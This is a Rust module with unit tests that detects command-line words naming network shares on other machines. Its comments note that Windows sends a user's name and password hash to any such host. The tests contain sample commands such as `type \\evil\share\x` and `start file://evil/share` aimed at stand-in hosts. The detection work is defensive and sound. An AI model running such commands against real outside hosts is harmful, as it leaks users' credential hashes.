//! Shares of other machines: `\\host\share`, `//host/share`, `file://host/share`.
//!
//! Windows logs in to whatever machine such a path names, even where the file is only looked for. The
//! machine learns the user's name and a hash of the password, so naming one sends something.

use crate::knowledge::names::LOCAL_SHARES;

/// Returns the host of the share that a path is on.
pub(crate) fn host_of(path: &str) -> Option<&str> {
    if let Some(rest) = strip_scheme(path) {
        let host = rest.split(['/', '\\']).next().unwrap_or("");
        return is_host(host).then_some(host);
    }
    let rest = path.trim_start_matches(is_slash);
    let run = path.len() - rest.len();
    if run != 2 && run != 4 {
        return None;
    }
    // `\\?\UNC\host\share` is the same path; `\\?\C:\x` is one of this machine.
    let rest = match rest.strip_prefix(['?', '.']) {
        Some(device) => {
            let device = device.trim_start_matches(is_slash);
            let (name, behind) = device.split_at_checked(3)?;
            if !name.eq_ignore_ascii_case("unc") {
                return None;
            }
            behind.trim_start_matches(is_slash)
        }
        None => rest,
    };
    let end = rest.find(is_slash)?;
    let (host, behind) = rest.split_at_checked(end)?;
    let share = behind.trim_start_matches(is_slash);
    let is_share = behind.len() - share.len() <= run / 2
        && share.starts_with(|first: char| first.is_alphanumeric() || first == '_');
    (is_share && is_host(host)).then_some(host)
}

/// Returns the hosts of shares that words of a command line name. What stands inside a quoted sentence is
/// no path.
pub(crate) fn hosts_in(text: &str) -> impl Iterator<Item = &str> {
    let mut quote = None;
    let mut before = ' ';
    let mut word = 0_usize;
    text.char_indices().filter_map(move |(at, letter)| {
        let opens = matches!(before, '=' | '(' | ',' | '"' | '\'' | '`' | '@' | '>' | '<')
            || before.is_whitespace() && quote.is_none()
            // `-Path:\\host\share`, and not `C:\x`
            || before == ':' && word > 1 && letter == '\\';
        match quote {
            Some(open) if open == letter => quote = None,
            None if matches!(letter, '"' | '\'') => quote = Some(letter),
            Some(_) | None => {}
        }
        before = letter;
        word = match letter {
            ':' => word,
            _ if letter.is_alphanumeric() => word + 1,
            _ => 0,
        };
        let starts = opens && (is_slash(letter) || matches!(letter, 'f' | 'F'));
        let rest = text.get(at..).filter(|_| starts)?;
        let end =
            rest.find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ';' | '|'));
        host_of(rest.get(..end.unwrap_or(rest.len()))?)
    })
}

fn strip_scheme(path: &str) -> Option<&str> {
    let (scheme, rest) = path.split_at_checked("file://".len())?;
    scheme.eq_ignore_ascii_case("file://").then_some(rest)
}

const fn is_slash(letter: char) -> bool {
    matches!(letter, '/' | '\\')
}

/// Whether a name is one of another machine.
fn is_host(name: &str) -> bool {
    let is_part =
        |letter: char| letter.is_alphanumeric() || matches!(letter, '.' | '-' | '_' | '@');
    name.len() > 1
        && name.chars().all(is_part)
        && name.starts_with(char::is_alphanumeric)
        && !LOCAL_SHARES
            .iter()
            .any(|local| local.eq_ignore_ascii_case(name))
}

#[cfg(test)]
mod tests {
    use super::{host_of, hosts_in};

    #[test]
    fn a_share_is_known_by_its_path_and_a_path_of_this_machine_is_none() {
        for (path, host) in [
            (r"\\evil.example\share\x", Some("evil.example")),
            ("//10.0.0.5/share", Some("10.0.0.5")),
            (r"\\evil@SSL\dav\x", Some("evil@SSL")),
            (r"\\?\UNC\evil\share\x", Some("evil")),
            (r"\\.\unc\evil\share\x", Some("evil")),
            (r"\\\\evil\\share", Some("evil")),
            ("file://evil/share/x", Some("evil")),
            ("FILE://evil/share/x", Some("evil")),
            (r"\\?\C:\Users\dev\a", None),
            (r"\\wsl$\Ubuntu\home", None),
            (r"\\wsl.localhost\Ubuntu", None),
            ("file:///C:/a", None),
            (r"\\bfoo\\b", None),
            ("//F", None),
            ("//c/Users", None),
            ("/usr/bin", None),
        ] {
            assert_eq!(host_of(path), host, "{path}");
        }
    }

    #[test]
    fn words_name_shares_and_sentences_do_not() {
        for (text, count) in [
            (r"type \\evil\share\x", 1),
            (r#"Get-Content "\\evil\share\x""#, 1),
            (r"python -c 'open(r\'\\evil\share\x\')'", 1),
            (r"Get-Content -Path:\\evil\share\a", 1),
            (r"type C:\\Users\dev", 0),
            (r#"git commit -m "see \\server\share for it""#, 0),
            ("curl https://example.org/a/b", 0),
            ("start file://evil/share", 1),
        ] {
            assert_eq!(hosts_in(text).count(), count, "{text}");
        }
    }
}
